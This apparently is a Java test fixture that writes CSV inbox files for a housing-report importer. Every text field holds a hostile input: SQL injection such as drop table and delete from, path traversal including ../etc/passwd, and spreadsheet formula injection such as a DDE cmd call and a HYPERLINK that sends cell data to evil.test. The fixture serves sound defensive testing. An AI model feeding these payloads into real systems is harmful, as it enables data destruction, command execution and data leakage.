package nl.leefbaar.reliability;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/**
 * An inbox whose every text field is hostile: names that are spreadsheet formulas, ids
 * that are paths ({@code ../}, {@code /}), values that are SQL
 * ({@code '; drop table ...; --}). Small counts by design: neighbourhood NC has 4 reports
 * in the 12 months to June 2025, complex CD 3, and complex CC has 6 dwellings (under the
 * publishing threshold of 10).
 */
final class HostileData {

	static final String MONTH = "2025-06";

	static final String NA = "'; drop table report; --";
	static final String NB = "../../NB";
	static final String NC = "NC/..";
	static final String NA_NAME = "=HYPERLINK(\"http://evil.test/\"&A1,\"klik\")";
	static final String NB_NAME = "@SUM(1+1)";
	static final String NC_NAME = "-Noord'); drop table neighbourhood; --";

	static final String CA = "=1+2";
	static final String CB = "../../../CB";
	static final String CC = "CC'); delete from report; --";
	static final String CD = "CD/x";
	static final String CE = "+CE";
	static final String CA_NAME = "=cmd|' /C calc'!A0";
	static final String CB_NAME = "-1+1";
	static final String CC_NAME = "+cmd";
	static final String CD_NAME = "Gewoon \"quoted\", comma; semicolon";
	static final String CE_NAME = "@@=x";

	static final String HOSTILE_CHANNEL = "'); drop table activity; --";
	static final String HOSTILE_CATEGORY = "=Schade'; drop table complex; --";
	static final String HOSTILE_REPORT_ID = "R'; drop table report; --";
	static final String HOSTILE_DWELLING = "W-PRIV'; drop table report; --";
	static final String REJECTED_FOLLOW_UP = "'; drop table import_run; --";

	/**
	 * Every text that some hostile field carries: none may turn up as a formula or a
	 * path.
	 */
	static final List<String> FORMULA_MARKERS = List.of("evil.test", "cmd", "SUM(1+1)", "drop table", "delete from");

	final List<String> dwellingRefs = new ArrayList<>();

	void writeInto(Path inbox) throws IOException {
		write(inbox.resolve("neighbourhoods.csv"), ',',
				List.of(List.of("neighbourhood_code", "name", "district"), List.of(NA, NA_NAME, "+SUM(1,2)"),
						List.of(NB, NB_NAME, "-2+3"), List.of(NC, NC_NAME, "../etc/passwd")));
		write(inbox.resolve("complexes.csv"), ',',
				List.of(List.of("complex_id", "name", "owner", "dwellings", "neighbourhood_code"),
						List.of(CA, CA_NAME, "'; drop table complex; --", "40", NA),
						List.of(CB, CB_NAME, "@owner", "30", NB), List.of(CC, CC_NAME, "/etc/passwd", "6", NC),
						List.of(CD, CD_NAME, "", "50", NC), List.of(CE, CE_NAME, "=owner", "60", NA)));

		List<List<String>> reports = new ArrayList<>();
		reports.add(List.of("report_id", "complex_id", "dwelling_ref", "category", "reported_at", "closed_at",
				"channel", "follow_up"));
		int[] n = { 0 };
		// month m: CA 12, CB 8, CC 1, CD 3, CE 9; earlier months: CA 10, CB 6, CE 6
		reportsAt(reports, n, CA, 12, "2025-06", 6);
		reportsAt(reports, n, CB, 8, "2025-06", 4);
		reportsAt(reports, n, CC, 1, "2025-06", 1);
		reportsAt(reports, n, CD, 3, "2025-06", 2);
		reportsAt(reports, n, CE, 9, "2025-06", 5);
		reportsAt(reports, n, CA, 10, "2025-03", 5);
		reportsAt(reports, n, CB, 6, "2025-04", 3);
		reportsAt(reports, n, CE, 6, "2025-02", 3);
		reports.add(List.of(HOSTILE_REPORT_ID, CA, HOSTILE_DWELLING, HOSTILE_CATEGORY, "2025-06-20 09:00",
				"2025-06-21 10:00", HOSTILE_CHANNEL, "visit"));
		dwellingRefs.add(HOSTILE_DWELLING);
		reports.add(List.of("=R2", CB, "", "Schade", "2025-06-21 09:00", "", "@channel", ""));
		reports.add(List.of("../R3", CE, "", "Vervuiling", "2025-06-22 09:00", "", "=1+1", ""));
		// refused by the follow-up rule: goes to the reject file, never into the database
		reports.add(List.of("R-rejected", CA, "", "Schade", "2025-06-23 09:00", "", "phone", REJECTED_FOLLOW_UP));
		write(inbox.resolve("reports.csv"), ';', reports);

		write(inbox.resolve("activities.csv"), ',',
				List.of(List.of("activity_id", "complex_id", "neighbourhood_code", "type", "date", "participants",
						"addresses_category"),
						List.of("=A1'; drop table activity; --", CA, "", "cleanup", "2025-03-10", "12", "pollution"),
						List.of("@A2", "", NB, "meeting", "2025-05-01", "30", ""),
						List.of("A3/../x", CD, "", "greening", "2025-06-05", "5", "public_space")));
	}

	/**
	 * count reports of complex in month, over dwellings distinct dwellings (repeats among
	 * them).
	 */
	private void reportsAt(List<List<String>> rows, int[] n, String complex, int count, String month, int dwellings) {
		String[] categories = { "Schade", "Vervuiling", "Burenoverlast" };
		for (int i = 0; i < count; i++) {
			n[0]++;
			String dwelling = "W-PRIV-" + Math.abs(complex.hashCode() % 1000) + "-" + (i % dwellings);
			if (!dwellingRefs.contains(dwelling)) {
				dwellingRefs.add(dwelling);
			}
			String day = String.format("%s-%02d", month, 1 + i % 27);
			rows.add(List.of("R-" + n[0], complex, dwelling, categories[i % 2], day + " 1" + (i % 10) + ":15",
					i % 3 == 0 ? "" : day + " 2" + (i % 4) + ":00", i % 2 == 0 ? "phone" : "app",
					i % 4 == 0 ? "visit" : ""));
		}
	}

	/** RFC 4180: every field quoted, quotes doubled. */
	private static void write(Path file, char delimiter, List<List<String>> rows) throws IOException {
		String text = rows.stream()
			.map(row -> row.stream()
				.map(f -> '"' + f.replace("\"", "\"\"") + '"')
				.collect(Collectors.joining(String.valueOf(delimiter))))
			.collect(Collectors.joining("\r\n", "", "\r\n"));
		Files.writeString(file, text, StandardCharsets.UTF_8);
	}

	static List<Path> filesUnder(Path folder) throws IOException {
		try (Stream<Path> files = Files.walk(folder)) {
			return files.filter(Files::isRegularFile).sorted().toList();
		}
	}

}
